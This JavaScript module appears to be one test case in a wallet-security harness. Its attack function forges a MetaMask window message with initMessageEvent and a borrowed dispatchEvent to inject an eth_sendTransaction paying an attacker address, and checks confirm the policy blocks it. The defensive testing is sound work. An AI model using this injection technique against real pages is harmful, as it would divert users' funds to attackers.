// G03: the synthetic event is an old-style event whose data is set late, dispatched through a borrowed method.
import { reachedWallet } from './logs.mjs';

export default {
  id: 'G03',
  title: 'synthetic event by initMessageEvent and EventTarget.prototype',
  source: 'MetaMask window message stream',
  level: 'prevented',
  policy: (a) => ({ version: 1, payees: [`${a.chain}:${a.GOOD}`] }),

  async attack(a) {
    // The wallet's stream drops what comes before its handshake, so one answered question goes first.
    await window.ethereum.request({ method: 'eth_accounts' });
    const params = [{ from: a.USER, to: a.EVIL, value: '0x5' }];
    const rpc = { jsonrpc: '2.0', id: 4242, method: 'eth_sendTransaction', params };
    const message = { target: 'metamask-contentscript', data: { name: 'metamask-provider', data: rpc } };
    const event = document.createEvent('MessageEvent');
    event.initMessageEvent('message', false, false, message, location.origin, '', window, []);
    EventTarget.prototype.dispatchEvent.call(window, event);
  },

  async action(a, app) {
    return app.pay(a.GOOD, 5n);
  },

  stolen: ({ wallet, a }) => reachedWallet(wallet, a.EVIL),
  arrived: ({ wallet, a }) => reachedWallet(wallet, a.GOOD),
  violation: (a) => ({ surface: 'postmessage', role: 'payee', account: a.EVIL }),
};
